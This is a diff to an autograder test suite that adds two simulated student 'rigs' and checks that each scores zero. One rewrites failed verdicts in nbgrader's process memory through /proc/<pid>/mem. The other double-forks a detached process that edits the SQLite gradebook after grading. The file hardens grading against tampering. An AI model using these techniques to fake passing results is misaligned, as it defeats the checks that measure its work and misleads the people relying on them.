@@ -17,6 +17,7 @@ import re
 import shutil
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import nbformat
@@ -223,6 +224,87 @@ for path in found:
 """The teacher's solution read from the course's source folder (absolute paths, found from the
 working folder) and run in place of an answer."""
 
+REWRITES_NBGRADER_MEMORY = r"""
+import os, struct, sys
+if "agentcore.course.judges.player" not in sys.modules:  # nbgrader's own Execute kernel
+    def maps(pid):
+        rows = []
+        for line in open(f"/proc/{pid}/maps"):
+            part = line.split()
+            start, end = (int(x, 16) for x in part[0].split("-"))
+            rows.append((start, end, part[1], int(part[2], 16), part[5] if len(part) > 5 else ""))
+        return rows
+    mine, parent = maps("self"), os.getppid()
+    theirs = maps(parent)
+    def there(address):  # the same libpython in both processes: our address in the parent
+        for start, end, _, offset, path in mine:
+            if start <= address < end and path:
+                in_file = address - start + offset
+                for start2, end2, _, offset2, path2 in theirs:
+                    if path2 == path and offset2 <= in_file < offset2 + (end2 - start2):
+                        return start2 + in_file - offset2
+    false, true, tuple_type, str_type = (there(id(x)) for x in (False, True, tuple, str))
+    pattern = struct.pack("<QQQ", tuple_type, 2, false)  # a 2-tuple whose first item is False
+    cross = "✘".encode("utf-16-le")
+    with open(f"/proc/{parent}/mem", "r+b", buffering=0) as memory:
+        for start, end, permissions, _, _ in theirs:
+            if not permissions.startswith("rw") or end - start > 1 << 30:
+                continue
+            try:
+                memory.seek(start)
+                data = memory.read(end - start)
+            except OSError:
+                continue
+            at = data.find(pattern)
+            while at >= 0:  # ... and whose second is a str holding ✘: a verdict
+                line = struct.unpack_from("<Q", data, at + 24)[0]
+                try:
+                    memory.seek(line)
+                    head = memory.read(120)
+                    if struct.unpack_from("<Q", head, 8)[0] == str_type and cross in head[72:76]:
+                        memory.seek(start + at + 16)
+                        memory.write(struct.pack("<Q", true))
+                except (OSError, struct.error):
+                    pass
+                at = data.find(pattern, at + 8)
+def unanswered_calls(messages):
+    return []
+"""
+"""A second attacker's rig: nbgrader's Execute kernel, a child of the nbgrader process with the
+same user, opens that process's memory through /proc and turns every ``(False, "✘ ...")``
+verdict that JudgeBeforeExecute left there into ``(True, ...)`` (2 points of 2 until the kernel
+was confined)."""
+
+EDITS_GRADEBOOK_AFTER_SAVE = """
+import os, sys
+if "agentcore.course.judges.player" not in sys.modules and os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:  # detached: outlives the kernel's shutdown
+        import glob, sqlite3, time
+        here = os.getcwd()
+        student = os.path.basename(os.path.dirname(here))
+        mine = os.path.join(here, "03-errors.ipynb")
+        start, waited = os.path.getmtime(mine), 0.0
+        while os.path.getmtime(mine) <= start and waited < 120:  # the graded notebook saved
+            time.sleep(0.2)
+            waited += 0.2
+        time.sleep(1)
+        database = glob.glob(os.path.join(here, "../../../*.db"))[0]
+        with sqlite3.connect(database) as connection:
+            connection.execute(
+                "UPDATE grade SET auto_score=1, needs_manual_grade=0 WHERE notebook_id IN "
+                "(SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
+                "ON sn.assignment_id=sa.id WHERE sa.student_id=?)",
+                (student,),
+            )
+    os._exit(0)
+def unanswered_calls(messages):
+    return []
+"""
+"""A second attacker's rig: a process the Execute kernel detaches (double fork, setsid) waits
+until nbgrader has saved the grades, then gives this student full points in the gradebook (2
+of 2 until the kernel was confined: it may write only in its scratch folder)."""
+
 RIGS: dict[str, tuple[str, str | None]] = {
     # the judge rebound: the old hidden tests trusted this name
     "rebinds_accepted": ("accepted = lambda *args, **kwargs: True\n", None),
@@ -253,6 +335,10 @@ RIGS: dict[str, tuple[str, str | None]] = {
     "edits_source_when_executed": (EDITS_SOURCE_WHEN_EXECUTED, None),
     # the teacher's solution read from the source folder and run
     "reads_the_source": (READS_THE_SOURCE, None),
+    # the verdicts in the nbgrader process's memory rewritten by its Execute kernel
+    "rewrites_nbgrader_memory": (REWRITES_NBGRADER_MEMORY, None),
+    # the gradebook edited by a detached process after nbgrader saved the grades
+    "edits_gradebook_after_save": (EDITS_GRADEBOOK_AFTER_SAVE, None),
 }
 
 
@@ -263,6 +349,7 @@ PAIRS = {
     "patches_json_and_threads": ("patches_json", "leaves_a_thread"),
     "prints_and_edits_source": ("prints_a_tick", "edits_source_when_executed"),
     "rebinds_and_reads_source": ("rebinds_accepted", "reads_the_source"),
+    "rewrites_memory_and_edits_later": ("rewrites_nbgrader_memory", "edits_gradebook_after_save"),
 }
 """Each student tries one rig in each of the two answer cells: every cell must score zero."""
 
@@ -290,6 +377,7 @@ def test_rigging_attempts_score_zero_beside_full_and_partial_points(tmp_path: Pa
         source_two = source_two.replace("edits_gradebook_and_files", student)
         submit(course, student, {first: source_one, second: source_two}, before_first=own_one)
     nbgrader(course, "autograde", "lesson03")
+    time.sleep(3)  # what a detached process of a rig would have written, it has written by now
     found, maximum = scores(course, students)
     assert maximum == 2
     assert found == {"solved": 2, "half": 1, **{student: 0 for student in PAIRS}}
